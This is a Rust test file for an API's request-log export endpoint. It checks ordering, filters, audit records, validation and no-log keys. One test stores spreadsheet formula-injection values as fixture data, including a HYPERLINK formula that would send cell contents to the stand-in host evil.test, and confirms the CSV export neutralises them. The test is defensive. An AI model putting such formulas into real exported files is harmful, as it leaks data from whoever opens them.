//! The requests of the last hours as a file.

use chrono::{TimeDelta, Utc};
use proto::v1::UsageEvent;
use serde_json::{Value, json};
use uuid::Uuid;

use crate::{
    support::Api,
    usage::{event, store},
};

const PATH: &str = "/api/logs/export";

/// The fields of the lines of a table, by RFC 4180.
fn table(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut field, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut chars = text.chars().peekable();
    while let Some(char) = chars.next() {
        match char {
            '"' if quoted && chars.peek() == Some(&'"') => field.extend(chars.next()),
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(std::mem::take(&mut field)),
            '\r' if !quoted => {}
            '\n' if !quoted => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            char => field.push(char),
        }
    }
    assert!(
        field.is_empty() && row.is_empty() && !quoted,
        "the last line ends, too"
    );
    rows
}

#[tokio::test]
async fn an_export_has_every_request_of_its_hours_once_the_newest_first() {
    let api = Api::start().await;
    let now = Utc::now();
    // more than two pages, and several of the same moment
    let events: Vec<UsageEvent> = (0..1_203)
        .map(|n| event(now - TimeDelta::minutes(1) - TimeDelta::milliseconds(n / 3)))
        .collect();
    let mut expected: Vec<_> = events
        .iter()
        .map(|event| (event.started_at_ms, Uuid::parse_str(&event.request_id).unwrap()))
        .collect();
    expected.sort_unstable_by(|a, b| b.cmp(a));
    store(&api, events).await;
    let older = UsageEvent {
        model_served: "older".to_owned(),
        ..event(now - TimeDelta::hours(30))
    };
    store(&api, vec![older]).await;

    let answer = api.get(&format!("{PATH}?hours=24&format=json")).await;
    assert_eq!(answer.header("content-type"), "application/json; charset=utf-8");
    assert!(
        answer
            .header("content-disposition")
            .starts_with("attachment; filename=\"omniroute-requests-")
            && answer.header("content-disposition").ends_with(".json\""),
    );
    let ids: Vec<Uuid> = answer
        .expect(200)
        .as_array()
        .unwrap()
        .iter()
        .map(|row| row["id"].as_str().unwrap().parse().unwrap())
        .collect();
    let expected: Vec<Uuid> = expected.into_iter().map(|(_, id)| id).collect();
    assert_eq!(ids, expected);

    let rows = table(
        api.get(&format!("{PATH}?format=csv"))
            .await
            .expect(200)
            .as_str()
            .unwrap(),
    );
    let column = |name: &str| rows[0].iter().position(|column| column == name).unwrap();
    assert!(rows.iter().all(|row| row.len() == rows[0].len()));
    let (id, tokens, cost) = (column("id"), column("tokensIn"), column("cost"));
    let ids: Vec<Uuid> = rows[1..].iter().map(|row| row[id].parse().unwrap()).collect();
    assert_eq!(ids, expected);
    assert_eq!((rows[1][tokens].as_str(), rows[1][cost].as_str()), ("10", "0.01"));

    let longer = api.get(&format!("{PATH}?hours=31")).await;
    assert_eq!(longer.expect(200).as_array().unwrap().len(), 1_204);
}

#[tokio::test]
async fn an_export_has_the_filters_of_the_log_and_is_on_record() {
    let api = Api::start().await;
    let failed = UsageEvent {
        http_status: 502,
        outcome: "upstream_error".to_owned(),
        model_requested: "anthropic/claude".to_owned(),
        ..event(Utc::now())
    };
    let id = failed.request_id.clone();
    store(&api, vec![event(Utc::now()), failed]).await;
    for query in ["status=error", "model=claude", "search=claude&status=502"] {
        let rows = api.get(&format!("{PATH}?{query}")).await.expect(200).clone();
        assert_eq!(rows.as_array().unwrap().len(), 1, "{query}");
        assert_eq!(rows[0]["id"], id.as_str(), "{query}");
    }
    assert_eq!(
        api.get(&format!("{PATH}?model=nobody-has-this"))
            .await
            .expect(200),
        &json!([])
    );
    assert_eq!(api.audited("usage.exported").await, 4);
    let audit = api.get("/api/compliance/audit-log?action=usage.exported").await;
    let newest = &audit.expect(200)[0]["details"];
    assert_eq!(
        (&newest["hours"], &newest["format"], &newest["model"]),
        (&json!(24), &json!("json"), &json!("nobody-has-this"))
    );
    for (query, field) in [
        ("hours=0", "hours"),
        ("hours=169", "hours"),
        ("format=xml", "format"),
        ("status=bad", "status"),
    ] {
        let answer = api.get(&format!("{PATH}?{query}")).await;
        assert_eq!(
            answer.expect_error(400, "VALIDATION_001")["details"][0]["field"],
            field
        );
    }
    assert_eq!(
        api.audited("usage.exported").await,
        4,
        "what is refused is no export"
    );
}

#[tokio::test]
async fn what_strangers_wrote_is_no_formula_in_a_table() {
    let api = Api::start().await;
    let hostile = UsageEvent {
        model_requested: "=HYPERLINK(\"http://evil.test?\"&A1,\"x\")".to_owned(),
        model_served: "@SUM(1)".to_owned(),
        key_name: "-1+1".to_owned(),
        client_request_id: "two\r\nlines".to_owned(),
        ..event(Utc::now())
    };
    store(&api, vec![hostile]).await;
    let rows = table(
        api.get(&format!("{PATH}?format=csv"))
            .await
            .expect(200)
            .as_str()
            .unwrap(),
    );
    assert_eq!(rows.len(), 2);
    let cell = |name: &str| &rows[1][rows[0].iter().position(|column| column == name).unwrap()];
    assert_eq!(
        cell("requestedModel"),
        "'=HYPERLINK(\"http://evil.test?\"&A1,\"x\")"
    );
    assert_eq!(cell("model"), "'@SUM(1)");
    assert_eq!(cell("apiKeyName"), "'-1+1");
    assert_eq!(cell("requestId"), "two\r\nlines");
}

#[tokio::test]
async fn a_key_that_is_not_to_be_logged_is_in_no_export() {
    let api = Api::start().await;
    let key = api.post("/api/keys", json!({ "name": "k", "noLog": true })).await;
    let quiet = UsageEvent {
        key_id: key.expect(201)["id"].as_str().unwrap().to_owned(),
        ..event(Utc::now())
    };
    store(&api, vec![quiet]).await;
    assert_eq!(api.get(PATH).await.expect(200), &Value::Array(Vec::new()));
}
